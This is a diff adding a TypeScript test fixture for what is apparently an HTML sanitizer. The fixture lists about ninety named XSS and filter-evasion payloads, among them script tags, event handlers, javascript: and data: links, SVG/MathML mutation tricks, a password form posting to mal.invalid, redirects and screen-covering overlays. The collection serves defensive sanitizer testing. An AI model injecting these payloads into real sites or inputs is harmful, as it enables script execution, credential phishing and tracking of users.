@@ -1,0 +1,191 @@
+/**
+ * Publications as an attacker would write them: classes of the OWASP filter evasion list, mutation tricks around
+ * tables, SVG and MathML, and what hides or covers the page without any script. Whatever is done with them, nothing
+ * may run, be fetched, be submitted or keep a class, style, id or address; their visible text remains.
+ */
+export const hostileHtml: readonly { name: string; html: string }[] = [
+  { name: "script", html: "antes<script>alert(1)</script>depois" },
+  { name: "script in capitals with a line break", html: "<SCRIPT\n>alert(1)</SCRIPT\n>" },
+  { name: "script with an address", html: '<script src="https://mal.invalid/x.js"></script>' },
+  { name: "script never closed", html: "antes<script>alert(1)" },
+  { name: "script inside script", html: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
+  { name: "script with a slash and no blank", html: "<script/src=//mal.invalid/x.js></script>" },
+  {
+    name: "script with a comment that hides its end",
+    html: "<script><!--<script>alert(1)</script>--></script>",
+  },
+  { name: "image that fails", html: "<img src=x onerror=alert(1)>" },
+  { name: "image without quotes or blanks", html: "<img/src=x/onerror=alert(1)>" },
+  { name: "image with a back quote", html: "<img src=`x` onerror=`alert(1)`>" },
+  { name: "image tag never closed", html: '<img src="x" onerror="alert(1)"' },
+  { name: "image that follows who reads", html: '<img src="https://mal.invalid/p.gif" width=1 height=1>' },
+  {
+    name: "image in many sizes",
+    html: '<img srcset="https://mal.invalid/a 1x"><picture><source srcset=x></picture>',
+  },
+  { name: "link that runs", html: '<a href="javascript:alert(1)">aqui</a>' },
+  {
+    name: "link that runs, written with entities",
+    html: '<a href="&#106;avascript&colon;alert(1)">aqui</a>',
+  },
+  { name: "link that runs, with a tab inside", html: '<a href="java\tscript:alert(1)">aqui</a>' },
+  {
+    name: "link that runs, with a control character before",
+    html: '<a href="\u0001javascript:alert(1)">aqui</a>',
+  },
+  {
+    name: "link with data",
+    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">aqui</a>',
+  },
+  { name: "link in Visual Basic", html: '<a href="vbscript:msgbox(1)">aqui</a>' },
+  {
+    name: "link out of the page",
+    html: '<a href="https://mal.invalid" target="_blank" ping="https://mal.invalid/p">aqui</a>',
+  },
+  {
+    name: "link in SVG",
+    html: '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">aqui</text></a></svg>',
+  },
+  { name: "frame", html: '<iframe src="javascript:alert(1)"></iframe>' },
+  {
+    name: "frame with its own document",
+    html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  },
+  { name: "frame never closed", html: "antes<iframe>depois <b>tudo</b>" },
+  { name: "set of frames", html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
+  { name: "object", html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
+  { name: "embed", html: '<embed src="https://mal.invalid/x.swf" allowscriptaccess="always">' },
+  { name: "applet", html: '<applet code="Mal.class" codebase="https://mal.invalid"></applet>' },
+  { name: "event on the body", html: '<body onload="alert(1)">texto</body>' },
+  { name: "event on an allowed element", html: '<p onclick="alert(1)" onmouseover=alert(2)>texto</p>' },
+  {
+    name: "event on a cell",
+    html: "<table><tr><td onfocus=alert(1) tabindex=0 autofocus colspan=2>texto</td></tr></table>",
+  },
+  {
+    name: "event that needs nobody",
+    html: '<details open ontoggle="alert(1)"><summary>a</summary>b</details>',
+  },
+  { name: "event with a slash before", html: "<b/onpointerenter=alert(1)>texto</b>" },
+  { name: "event with a form feed before", html: "<b\u000conclick=alert(1)>texto</b>" },
+  {
+    name: "event through animation",
+    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">a</b>',
+  },
+  { name: "marquee", html: "<marquee onstart=alert(1)>texto</marquee>" },
+  { name: "video", html: '<video src=x onerror=alert(1)><source onerror="alert(1)"></video>' },
+  { name: "audio", html: "<audio autoplay src=x onerror=alert(1)></audio>" },
+  {
+    name: "cover over the whole screen by a class",
+    html: '<div class="fixed inset-0 z-50">cobre tudo</div>',
+  },
+  {
+    name: "cover over the whole screen by a style",
+    html: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">cobre tudo</div>',
+  },
+  { name: "style that fetches", html: '<p style="background:url(https://mal.invalid/x.png)">texto</p>' },
+  { name: "style sheet", html: "<style>body{display:none}</style>texto" },
+  {
+    name: "style sheet from elsewhere",
+    html: '<link rel="stylesheet" href="https://mal.invalid/x.css">texto',
+  },
+  { name: "style sheet that imports", html: '<style>@import "https://mal.invalid/x.css";</style>texto' },
+  {
+    name: "invisible text",
+    html: '<span style="display:none">oculto</span><font size=0 color=white>pequeno</font>',
+  },
+  {
+    name: "id that shadows the page's own",
+    html: '<b id="getElementById">a</b><form name="cookie"><input name="x"></form>',
+  },
+  {
+    name: "form that asks for the password",
+    html: '<form action="https://mal.invalid"><input type=password name=p><button>Entrar</button></form>',
+  },
+  { name: "button that submits elsewhere", html: '<button formaction="javascript:alert(1)">Entrar</button>' },
+  {
+    name: "text area that hides its end",
+    html: "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
+  },
+  {
+    name: "selection that hides a style",
+    html: "<select><style></select><img src=x onerror=alert(1)></style>",
+  },
+  { name: "base address", html: '<base href="https://mal.invalid/">texto' },
+  { name: "redirect", html: '<meta http-equiv="refresh" content="0;url=https://mal.invalid">texto' },
+  { name: "SVG that runs when loaded", html: "<svg onload=alert(1)></svg>" },
+  { name: "SVG with a script", html: "<svg><script>alert(1)</script></svg>" },
+  { name: "SVG that closes itself", html: "<svg/onload=alert(1)>texto" },
+  { name: "SVG never closed", html: "antes<svg><p>depois</p>" },
+  {
+    name: "SVG with HTML inside",
+    html: "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>texto",
+  },
+  {
+    name: "SVG whose style swallows a tag",
+    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  },
+  {
+    name: "SVG that animates an address",
+    html: "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>",
+  },
+  {
+    name: "SVG that uses another",
+    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  },
+  {
+    name: "MathML",
+    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
+  },
+  {
+    name: "MathML that mutates",
+    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  },
+  {
+    name: "form in MathML that mutates",
+    html: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  },
+  { name: "template", html: "<template><img src=x onerror=alert(1)></template>texto" },
+  {
+    name: "noscript that mutates",
+    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">texto',
+  },
+  { name: "title that mutates", html: '<title><p title="</title><img src=x onerror=alert(1)>">texto' },
+  { name: "noembed that mutates", html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>">texto' },
+  { name: "xmp that mutates", html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">texto' },
+  { name: "plaintext", html: "<plaintext><img src=x onerror=alert(1)>" },
+  { name: "listing", html: "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>" },
+  { name: "comment that ends early", html: "<!--><img src=x onerror=alert(1)>-->texto" },
+  { name: "comment that ends with a bang", html: "<!-- --!><img src=x onerror=alert(1)> -->texto" },
+  { name: "comment of old browsers", html: "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->texto" },
+  { name: "character data", html: "<![CDATA[<img src=x onerror=alert(1)>]]>texto" },
+  { name: "declaration", html: '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;texto' },
+  { name: "processing instruction", html: '<?xml-stylesheet href="javascript:alert(1)"?>texto' },
+  { name: "script as entities", html: "&lt;script&gt;alert(1)&lt;/script&gt;" },
+  { name: "script as entities twice", html: "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;" },
+  { name: "script as numbers without semicolons", html: "&#60script&#62alert(1)&#60/script&#62" },
+  { name: "script in wide letters", html: "＜script＞alert(1)＜/script＞" },
+  { name: "tag name with a NUL", html: "<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x onerror=alert(1)>" },
+  { name: "halves of surrogate pairs", html: "<b>a\ud800b\udfffc&#xD800;</b>" },
+  { name: "text turned around", html: "valor de R$ \u202e00,001\u202c e \u206601/01\u2069" },
+  {
+    name: "quotes that break out of an attribute",
+    html: '<td colspan="2" onload="alert(1)" rowspan=\'1"onclick=alert(1)\'>texto</td>',
+  },
+  {
+    name: "spans that are no numbers",
+    html: "<table><tr><td colspan=1e9 rowspan=-1>a</td><td colspan=999>b</td></tr></table>",
+  },
+  { name: "custom element", html: '<x-alerta onclick="alert(1)">texto</x-alerta>' },
+  { name: "slot and part", html: '<slot name="x"></slot><b part="x" slot="x" is="x-y">texto</b>' },
+  { name: "editable text", html: "<p contenteditable onblur=alert(1)>texto</p>" },
+  {
+    name: "portal to another page",
+    html: '<portal src="https://mal.invalid"></portal><fencedframe></fencedframe>texto',
+  },
+  { name: "dialog over the page", html: "<dialog open>cobre</dialog><div popover id=x>cobre</div>" },
+  { name: "tables that are never closed", html: "<table><tr><td><table><tr><td>texto" },
+  { name: "text that falls out of a table", html: "<table>fora<tr>fora<td>dentro</td>fora</tr></table>" },
+  { name: "tags closed in the wrong order", html: "<b><p><i>a</b>b</p>c</i></td></table></div>" },
+  { name: "inline without end", html: "<b>".repeat(500) + "texto" },
+];
